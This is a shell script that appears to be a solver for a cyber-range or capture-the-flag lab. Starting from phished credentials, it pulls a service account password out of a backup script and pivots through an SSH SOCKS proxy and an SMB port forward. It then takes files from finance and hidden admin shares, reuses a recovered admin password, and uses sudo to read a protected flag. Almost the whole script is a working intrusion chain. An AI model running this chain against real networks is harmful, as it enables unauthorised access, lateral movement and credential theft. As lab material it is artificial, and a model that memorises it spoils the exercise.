#!/bin/sh
# Run on the attacker box with the team's phished credentials (jdoe on ws01). Prints RECOVERED lines.
set -eu
jdoe="$FEDERANGE_ACCESS_JDOE_PASSWORD"
ssh_opts="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=10"

echo "== foothold: jdoe on ws01; the backup script holds the service account" >&2
# shellcheck disable=SC2086
script=$(sshpass -p "$jdoe" ssh $ssh_opts -p 2222 jdoe@ws01 cat /opt/ops/backup-finance.sh)
svc=$(printf '%s\n' "$script" | sed -n "s/.*svc_backup%\([^']*\)'.*/\1/p")
[ -n "$svc" ] || { echo "no service account password in the backup script" >&2; exit 1; }

echo "== pivot through ws01: a SOCKS proxy (proxychains) and a forward of the file server's SMB port" >&2
# (smbclient's asynchronous connect does not go through proxychains, hence the -L forward for SMB; in
# the background rather than with ssh -f: sshpass would take the forked ssh down when it exits)
# shellcheck disable=SC2086
sshpass -p "$jdoe" ssh $ssh_opts -p 2222 -N -D 127.0.0.1:1080 -L 127.0.0.1:4445:files:445 jdoe@ws01 &
tunnel=$!
trap 'kill "$tunnel" 2>/dev/null || true' EXIT
for _ in $(seq 1 50); do nc -z 127.0.0.1 1080 && nc -z 127.0.0.1 4445 && break; sleep 0.2; done
cat > /tmp/proxychains.conf <<'CONF'
strict_chain
proxy_dns
quiet_mode
tcp_read_time_out 15000
tcp_connect_time_out 8000
[ProxyList]
socks5 127.0.0.1 1080
CONF
pc="proxychains4 -q -f /tmp/proxychains.conf"

echo "== flag_share: the finance share" >&2
smbclient -p 4445 //127.0.0.1/finance -U "svc_backup%$svc" -c 'get flag.txt /tmp/flag_share.txt' >&2
echo "RECOVERED flag_share $(head -n1 /tmp/flag_share.txt)"

echo "== the hidden it\$ share names itadmin's password" >&2
smbclient -p 4445 '//127.0.0.1/it$' -U "svc_backup%$svc" -c 'get srv01-access.txt /tmp/srv01-access.txt' >&2
itadmin=$(sed -n 's/^password: //p' /tmp/srv01-access.txt)

echo "== flag_admin: itadmin on srv01, then sudo" >&2
# shellcheck disable=SC2086
flag=$($pc sshpass -p "$itadmin" ssh $ssh_opts -p 2222 itadmin@srv01 \
  "printf '%s\n' '$itadmin' | sudo -S -p '' cat /opt/secret/flag.txt")
echo "RECOVERED flag_admin $flag"
